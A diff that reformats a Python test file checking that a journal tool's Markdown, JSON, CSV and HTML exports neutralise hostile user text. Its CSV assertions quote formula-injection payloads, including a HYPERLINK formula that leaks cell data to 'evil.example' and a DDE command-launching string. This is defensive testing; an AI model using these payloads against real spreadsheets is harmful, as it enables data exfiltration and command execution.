@@ -70,8 +70,11 @@ ATTENDEE;CN="{person}":mailto:guest@example.com
 END:VEVENT
 END:VCALENDAR
 """
-MODES = {"default": {}, "notes": {"include_notes": True},
-         "open": {"include_notes": True, "real_names": True}}
+MODES = {
+    "default": {},
+    "notes": {"include_notes": True},
+    "open": {"include_notes": True, "real_names": True},
+}
 FORMULA = tuple("=+-@\t\r")
 # C0 (but tab, newline and carriage return, which the formats quote or flatten), DEL, C1, bidi.
 TERMINAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
@@ -85,18 +88,36 @@ def build(store: JournalStore, texts: list[str], tmp_path, tag: str) -> None:
     """Every user field of the journal filled with `texts`, one or more entries each."""
     for n, text in enumerate(texts):
         day = 1 + n % 25
-        service.log_ai(store, tool=text, minutes=30 + n, at=at(day, 9), purpose="learn",
-                       skill=text, note=text, tags=[text])
-        service.log_interaction(store, people=[f"{text} ({n})"], minutes=20, at=at(day, 11),
-                                quality=4, kind="mentoring", note=text, tags=[text])
+        service.log_ai(
+            store,
+            tool=text,
+            minutes=30 + n,
+            at=at(day, 9),
+            purpose="learn",
+            skill=text,
+            note=text,
+            tags=[text],
+        )
+        service.log_interaction(
+            store,
+            people=[f"{text} ({n})"],
+            minutes=20,
+            at=at(day, 11),
+            quality=4,
+            kind="mentoring",
+            note=text,
+            tags=[text],
+        )
         service.log_energy(store, level=1 + n % 5, at=at(day, 17), note=text, tags=[text])
     calendar = tmp_path / f"{tag}.ics"
     hostile = texts is PAYLOADS
-    calendar.write_text(CALENDAR.format(title=TITLE if hostile else "Planning",
-                                        person=ATTENDEE if hostile else "Guest"),
-                        encoding="utf-8")
-    ics.run(store, str(calendar), me="me@example.com",
-            since=localize(dt.datetime(2026, 11, 1)))
+    calendar.write_text(
+        CALENDAR.format(
+            title=TITLE if hostile else "Planning", person=ATTENDEE if hostile else "Guest"
+        ),
+        encoding="utf-8",
+    )
+    ics.run(store, str(calendar), me="me@example.com", since=localize(dt.datetime(2026, 11, 1)))
 
 
 @pytest.fixture(scope="module")
@@ -165,6 +186,7 @@ def parsed_html(page: str) -> Tags:
 
 # --- every format ----------------------------------------------------------------------------
 
+
 @pytest.mark.parametrize("mode", MODES)
 @pytest.mark.parametrize("fmt", ["md", "json", "csv", "html"])
 def test_no_terminal_control_codes_in_any_export(journals, fmt, mode):
@@ -177,6 +199,7 @@ def test_no_terminal_control_codes_in_any_export(journals, fmt, mode):
 
 # --- CSV -------------------------------------------------------------------------------------
 
+
 @pytest.mark.parametrize("mode", MODES)
 def test_csv_cells_never_start_like_a_formula(journals, mode):
     text = render(journals[0], "csv", mode)
@@ -186,7 +209,7 @@ def test_csv_cells_never_start_like_a_formula(journals, mode):
     starting = [cell for cell in cells if cell.lstrip()[:1] in FORMULA + tuple("＝＋－＠")]
     assert starting == []
     quoted = [cell for cell in cells if cell.startswith("'")]
-    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")" in quoted  # tool column
+    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")' in quoted  # tool column
     assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'\t=1+1" in cells
     if mode == "open":  # the people column, with real names
         people = [r[9] for r in rows]
@@ -204,9 +227,11 @@ def test_csv_numbers_stay_numbers_and_plain_text_stays_plain():
 
 # --- Markdown --------------------------------------------------------------------------------
 
+
 def markdown() -> MarkdownIt:
     return MarkdownIt("commonmark", {"linkify": True, "html": True}).enable(
-        ["linkify", "table", "strikethrough"])
+        ["linkify", "table", "strikethrough"]
+    )
 
 
 @pytest.mark.parametrize("mode", MODES)
@@ -215,8 +240,16 @@ def test_markdown_user_text_is_never_markup(journals, mode):
     parser = markdown()
     tokens = parser.parse(hostile)
     found = shape(tokens)
-    for live in ("link_open", "image", "html_inline", "html_block", "code_inline", "s_open",
-                 "em_open", "heading_open"):
+    for live in (
+        "link_open",
+        "image",
+        "html_inline",
+        "html_block",
+        "code_inline",
+        "s_open",
+        "em_open",
+        "heading_open",
+    ):
         assert found[live] == shape(parser.parse(harmless))[live], live
     assert found == shape(parser.parse(harmless))  # same tables, rows, lists and paragraphs
     assert not re.search(r"(?<!\\)\]\(", hostile)
@@ -242,6 +275,7 @@ def test_md_text_keeps_words_readable():
 
 
 # --- HTML ------------------------------------------------------------------------------------
+
 
 @pytest.mark.parametrize("mode", MODES)
 def test_html_user_text_never_becomes_tags_or_attributes(journals, mode):
